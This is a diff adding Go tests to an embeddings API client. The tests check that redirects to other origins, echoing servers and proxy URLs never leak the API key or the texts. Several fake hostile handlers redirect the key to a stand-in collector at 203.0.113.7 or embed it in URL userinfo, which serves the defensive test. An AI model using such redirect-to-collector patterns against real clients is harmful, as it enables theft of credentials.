@@ -475,6 +475,11 @@ func TestOpenAIBadResponses(t *testing.T) {
 		{"ragged", `{"object":"list","data":[{"index":0,"embedding":[1,2]},{"index":1,"embedding":[3]}]}`, "mixes 2- and 1-dimensional"},
 		{"empty", `{"object":"list","data":[{"index":0,"embedding":[]},{"index":1,"embedding":[]}]}`, "empty vectors"},
 		{"html", `<html>hello</html>`, "not an embeddings list"},
+		// A zero vector has no direction: stored, it would match nothing
+		// and stay in the cache after the server is fixed.
+		{"zero", `{"object":"list","data":[{"index":0,"embedding":[1,2]},{"index":1,"embedding":[0,-0]}]}`, "input 1 is all zeros"},
+		{"inf", `{"object":"list","data":[{"index":0,"embedding":[1,2]},{"index":1,"embedding":[1e39,1]}]}`, "not an embeddings list"},
+		{"nan", `{"object":"list","data":[{"index":0,"embedding":[1,2]},{"index":1,"embedding":[NaN,1]}]}`, "not an embeddings list"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -602,5 +607,139 @@ func TestOpenAITooSlowNamesSettings(t *testing.T) {
 		if !strings.Contains(err.Error(), want) {
 			t.Errorf("error %q does not contain %q", err, want)
 		}
+	}
+}
+
+// TestRedirectElsewhereSendsNothing: a server that answers with a
+// redirect to another origin (here the same host on another port, which
+// Go's client treats as the same host and sends the Authorization header
+// to; a 307 or 308 also sends the request body, the texts) gets neither
+// the key nor the texts sent there: the request fails with an error that
+// names the target, without the key.
+func TestRedirectElsewhereSendsNothing(t *testing.T) {
+	const key = "sk-redirect-secret-42"
+	for _, code := range []int{http.StatusMovedPermanently, http.StatusFound, http.StatusTemporaryRedirect, http.StatusPermanentRedirect} {
+		t.Run(fmt.Sprint(code), func(t *testing.T) {
+			var reached atomic.Int32
+			other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				reached.Add(1)
+				t.Errorf("the redirect target got %s %s, Authorization %q", r.Method, r.URL.Path, r.Header.Get("Authorization"))
+				http.Error(w, "no", http.StatusBadRequest)
+			}))
+			defer other.Close()
+			first := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				http.Redirect(w, r, other.URL+r.URL.Path, code)
+			}))
+			defer first.Close()
+			o := newTestOpenAI(t, first, OpenAIConfig{APIKey: key, MaxTries: 1})
+			_, err := o.EmbedDocuments(context.Background(), []string{"private note text"})
+			if err == nil {
+				t.Fatal("EmbedDocuments through a redirect elsewhere succeeded")
+			}
+			if reached.Load() != 0 {
+				t.Errorf("the redirect target was reached %d times", reached.Load())
+			}
+			if !strings.Contains(err.Error(), "redirect") || !strings.Contains(err.Error(), other.URL) || strings.Contains(err.Error(), key) {
+				t.Errorf("error = %v, want one naming the redirect to %s, without the key", err, other.URL)
+			}
+			if !errors.Is(err, ErrRejected) {
+				t.Errorf("error = %v, want it to wrap ErrRejected (no retry helps)", err)
+			}
+		})
+	}
+}
+
+// TestServerEchoingTheKeySeesItInNoError: a server that quotes the
+// Authorization header it got, in every place an answer can carry text
+// back (a redirect's target, a non-JSON body, a JSON body of the wrong
+// shape, each error status), gets the key into no error message.
+func TestServerEchoingTheKeySeesItInNoError(t *testing.T) {
+	const key = "sk-echo-secret-7f3a9b"
+	answers := map[string]func(w http.ResponseWriter, r *http.Request, auth string){
+		"redirect": func(w http.ResponseWriter, r *http.Request, auth string) {
+			http.Redirect(w, r, "http://203.0.113.7/collect?k="+auth, http.StatusTemporaryRedirect)
+		},
+		"redirect-userinfo": func(w http.ResponseWriter, r *http.Request, auth string) {
+			http.Redirect(w, r, "http://u:"+auth+"@203.0.113.7/", http.StatusFound)
+		},
+		"html-200": func(w http.ResponseWriter, r *http.Request, auth string) {
+			fmt.Fprintf(w, "<html>your key %s</html>", auth)
+		},
+		"wrong-json-200": func(w http.ResponseWriter, r *http.Request, auth string) {
+			w.Header().Set("Content-Type", "application/json")
+			fmt.Fprintf(w, `{"data":[{"embedding":"%s","index":0}]}`, auth)
+		},
+		"index-200": func(w http.ResponseWriter, r *http.Request, auth string) {
+			w.Header().Set("Content-Type", "application/json")
+			fmt.Fprintf(w, `{"data":[{"embedding":[1,2],"index":0}],"model":"%s"}`, auth)
+		},
+	}
+	for _, code := range []int{400, 401, 403, 404, 422, 429, 500, 503} {
+		answers[fmt.Sprint(code)] = func(w http.ResponseWriter, r *http.Request, auth string) {
+			w.WriteHeader(code)
+			fmt.Fprintf(w, "plain text quoting %s", auth)
+		}
+	}
+	for name, answer := range answers {
+		t.Run(name, func(t *testing.T) {
+			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				answer(w, r, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
+			}))
+			defer srv.Close()
+			o := newTestOpenAI(t, srv, OpenAIConfig{APIKey: key, MaxTries: 2, Dims: 3})
+			_, err := o.EmbedDocuments(context.Background(), []string{"a"})
+			if err == nil {
+				t.Fatal("EmbedDocuments succeeded")
+			}
+			if strings.Contains(err.Error(), key) {
+				t.Errorf("error quotes the key: %v", err)
+			}
+		})
+	}
+}
+
+// TestPasswordInBaseURLIsInNoError: a base URL with a password in it
+// (a proxy's basic auth, given as a flag) is named in errors with the
+// password left out.
+func TestPasswordInBaseURLIsInNoError(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Error(w, "down", http.StatusServiceUnavailable)
+	}))
+	defer srv.Close()
+	base := strings.Replace(srv.URL, "http://", "http://proxyuser:pw-secret-91@", 1) + "/v1"
+	o, err := NewOpenAI(OpenAIConfig{BaseURL: base, Model: "m", MaxTries: 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = o.EmbedDocuments(context.Background(), []string{"a"})
+	if err == nil || strings.Contains(err.Error(), "pw-secret-91") || !strings.Contains(err.Error(), "proxyuser") {
+		t.Errorf("error = %v, want one naming the base URL without its password", err)
+	}
+	if _, err := NewOpenAI(OpenAIConfig{BaseURL: "ftp://u:pw-secret-91@h/v1", Model: "m"}); err == nil || strings.Contains(err.Error(), "pw-secret-91") {
+		t.Errorf("NewOpenAI of an ftp URL = %v, want an error without the password", err)
+	}
+}
+
+// TestRedirectWithinTheOriginIsFollowed: a redirect to another path of
+// the base URL's own scheme, host and port (a server that moved its
+// API) is followed, with the key.
+func TestRedirectWithinTheOriginIsFollowed(t *testing.T) {
+	f, _ := newFakeServer(t, 3)
+	var srv *httptest.Server
+	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/v1/embeddings" {
+			http.Redirect(w, r, srv.URL+"/v2/embeddings", http.StatusTemporaryRedirect)
+			return
+		}
+		r.URL.Path = "/v1/embeddings" // where the fake server answers
+		f.ServeHTTP(w, r)
+	}))
+	defer srv.Close()
+	o := newTestOpenAI(t, srv, OpenAIConfig{APIKey: "sk-same-origin"})
+	if _, err := o.EmbedDocuments(context.Background(), []string{"a"}); err != nil {
+		t.Fatalf("EmbedDocuments through a same-origin redirect: %v", err)
+	}
+	if _, auth := f.seen(); len(auth) != 1 || auth[0] != "Bearer sk-same-origin" {
+		t.Errorf("the redirect target got Authorization %q, want the key once", auth)
 	}
 }
